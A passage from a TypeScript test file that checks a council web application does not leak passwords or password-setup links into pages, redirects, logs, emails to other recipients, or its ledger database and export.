  await t.test('no page and no redirect', () => assert.deepEqual([...told, ...redirects.filter((each) => all.some((secret) => each?.includes(secret)))], []))
  await t.test('no line of the log', () => {
    const log = council.log.join('\n')
    assert.equal(log.split('violates check constraint').length > 2, true, 'the log does not say what failed')
    assert.deepEqual([...all, later, 'priya.nair@'].filter((each) => log.includes(each)), [], log.slice(0, 3000))
  })
  await t.test('no letter to somebody else', async () => {
    for (const { to, subject, text, links } of await council.letters()) {
      const own = links.join(' ')
      assert.deepEqual(all.filter((each) => `${subject} ${text}`.includes(each) && !own.includes(each)), [], `to ${to}`)
      if (own.includes('choose-password')) assert.equal(to, 'priya.nair@barsetshire.example')
    }
  })
  await t.test('and no password or link is in the ledger', async () => {
    const ledger = (await council.database.asOwner<{ line: string }>('select row_to_json(b)::text as line from ledger.body b union all select row_to_json(e)::text from ledger.entry e')).map((each) => each.line).join('\n')
    assert.ok(ledger.includes('signed'), 'the ledger does not say that anybody signed in')
    assert.deepEqual(secrets.filter((each) => ledger.includes(each)), [])
    const exported = await (await council.as('ruth.pemberton@barsetshire.example')).get('/ledger/export')
    assert.equal(exported.status, 200)
    assert.deepEqual(secrets.filter((each) => Buffer.from(exported.bytes).toString().includes(each)), [])
  })
})
